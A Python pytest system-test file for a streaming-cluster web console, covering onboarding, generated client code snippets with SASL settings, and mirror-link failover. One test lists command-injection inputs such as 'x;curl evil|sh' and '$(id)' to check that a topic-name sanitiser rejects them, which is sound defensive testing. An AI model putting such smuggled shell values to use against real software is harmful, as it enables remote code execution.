"""A new cluster in a real browser: the first steps, programs that run as they are shown, and mirror links."""

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from millstream.console.snippets import SNIPPETS, Connection, topic_of_link
from millstream.testing import EmbeddedBroker
from tests.mirrors import Mirror, make_source_topic, produce, read_all
from tests.system.console.conftest import GatewayProcess, Looking

pytestmark = pytest.mark.timeout(300)


@pytest.fixture(scope="module")
def new_cluster(chromium: str) -> Iterator[EmbeddedBroker]:
    with EmbeddedBroker() as running:
        yield running


@pytest.fixture(scope="module")
def own_gateway(new_cluster: EmbeddedBroker, tmp_path_factory: pytest.TempPathFactory) -> Iterator[GatewayProcess]:
    running = GatewayProcess(new_cluster.bootstrap_servers, tmp_path_factory.mktemp("own") / "log")
    yield running
    running.stop()


@pytest.fixture
def tab(window: Any, own_gateway: GatewayProcess) -> Iterator[Looking]:
    looking = Looking(window.new_page(), own_gateway.url)
    yield looking
    looking.page.close()
    assert looking.problems == []


def test_from_an_empty_cluster_to_a_record_that_arrived(
    tab: Looking, new_cluster: EmbeddedBroker, own_gateway: GatewayProcess
) -> None:
    page = tab.open("/")
    tab.await_text("first-steps", "This cluster has no topics yet")
    page.get_by_test_id("first-topic").fill("a b")
    page.get_by_test_id("first-create").click()
    tab.await_text("complaint", "only letters, digits")
    page.get_by_test_id("first-topic").fill("first-orders")
    page.get_by_test_id("first-create").click()
    tab.await_text("program-kcat", f"kcat -b {new_cluster.bootstrap_servers} -t first-orders -P")
    page.get_by_test_id("first-record").click()
    tab.await_text("first-arrived", 'at offset 0: {"hello": "Millstream"')

    # The programs run as they are shown.
    page.get_by_test_id("tool-python").click()
    tab.await_text("program-python", "first-orders")
    program = tab.text("program-python")
    ran = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60)
    assert ran.stdout.startswith("b'{"), ran.stderr
    page.get_by_test_id("tool-curl").click()
    tab.await_text("program-curl", own_gateway.url)
    ran = subprocess.run(["bash", "-ec", tab.text("program-curl")], capture_output=True, text=True, timeout=60)
    assert '"offset":' in ran.stdout.replace('" :', '":'), ran

    page.get_by_test_id("first-look").click()
    page.get_by_test_id("records").get_by_text("Millstream").first.wait_for()
    tab.open("/")
    tab.await_text("problems", "The cluster is healthy")
    assert page.get_by_test_id("first-steps").inner_text() == ""


def test_programs_have_the_security_settings_and_no_secret() -> None:
    secured = Connection("one:9092,two:9092", "orders", "SASL_SSL", "SCRAM-SHA-512", "https://gate", gateway_login=True)
    shown = {name: make(secured) for name, make in SNIPPETS.items()}
    for name in ("kcat", "Python", "Java", "Spark"):
        assert "SASL_SSL" in shown[name] and "SCRAM-SHA-512" in shown[name] and "ca.pem" in shown[name], name
    assert 'ScramLoginModule required username=\\"USER\\"' in shown["Java"]
    assert "kgo.DialTLS()" in shown["Go"] and "AsSha512Mechanism" in shown["Go"]
    assert 'kgo.SeedBrokers("one:9092", "two:9092")' in shown["Go"]
    assert "mechanism: 'scram-sha-512'" in shown["Node"] and "['one:9092', 'two:9092']" in shown["Node"]
    assert "curl -u USER:PASSWORD https://gate" in shown["curl"]
    by_token = Connection("one:9092", "orders", "SASL_SSL", "OAUTHBEARER")
    assert "sasl.oauthbearer.method=oidc" in SNIPPETS["kcat"](by_token)
    assert "identity provider" in SNIPPETS["Java"](by_token) and "PASSWORD" not in SNIPPETS["Node"](by_token)


def test_a_link_puts_only_names_of_topics_into_programs() -> None:
    """A program is copied into a shell: `?topic=x;curl evil|sh` must not be in it."""
    assert topic_of_link("shop.orders-1_a") == "shop.orders-1_a"
    for text in ("x;curl evil|sh", "$(id)", "`id`", 'x" -t y', "x\nid", "..", "x" * 250, ""):
        assert topic_of_link(text) == ""


def test_a_mirror_link_from_its_creation_to_the_failover_and_back(
    tab: Looking, new_cluster: EmbeddedBroker, tmp_path: Path
) -> None:
    with EmbeddedBroker() as source:
        make_source_topic(source.bootstrap_servers, "western")
        produce(source.bootstrap_servers, "western", ["a", "b", "c"])
        page = tab.open("/mirrors")
        tab.await_text("links", "No mirror links")
        page.get_by_test_id("open-create-link").click()
        page.get_by_test_id("link-name").fill("w est")
        page.get_by_test_id("link-source").fill(source.bootstrap_servers)
        page.get_by_test_id("link-topics").fill("west.*")
        page.get_by_test_id("create").click()
        tab.await_text("complaint", "is not the name of a link")
        page.get_by_test_id("link-name").fill("west")
        page.get_by_test_id("create").click()
        page.get_by_test_id("page-title").filter(has_text="west").wait_for()
        tab.await_text("link-topics-table", "western")
        tab.await_text("link-topics-table", "mirroring")
        tab.await_text("link-records", "0")
        tab.await_text("link-seconds", "s")

        page.get_by_test_id("verify").click()
        tab.await_text("verify-status", "compared: equal.")
        tab.await_text("verified", "western-0")

        page.get_by_test_id("pause").click()
        tab.await_text("link-state", "paused")
        page.get_by_test_id("pause").filter(has_text="Resume").click()
        tab.await_text("link-state", "mirroring")

        tab.open("/mirrors")
        tab.await_text("links", source.bootstrap_servers)
        tab.await_text("links", "mirroring")
        page.get_by_test_id("links").get_by_text("west", exact=True).click()
        tab.await_text("link-topics-table", "western")
        page.get_by_test_id("failover").click()
        page.get_by_text("western-0: 0 records missing").wait_for()  # the preview
        page.get_by_test_id("confirm").click()
        tab.await_text("link-state", "promoted")

        produce(source.bootstrap_servers, "western", ["too late"])
        page.get_by_test_id("reverse").click()
        page.get_by_test_id("reverse-preview").click()
        tab.await_text("reverse-execute", "remove 1 record there")
        tab.await_text("removed", "western-0")
        page.get_by_test_id("reverse-execute").click()
        tab.await_text("links", "No mirror links")
        produce(new_cluster.bootstrap_servers, "western", ["d"])
        Mirror("west", new_cluster.bootstrap_servers, source.bootstrap_servers).await_equal("western")
        assert [row[2] for row in read_all(source.bootstrap_servers, "western")] == [b"a", b"b", b"c", b"d"]
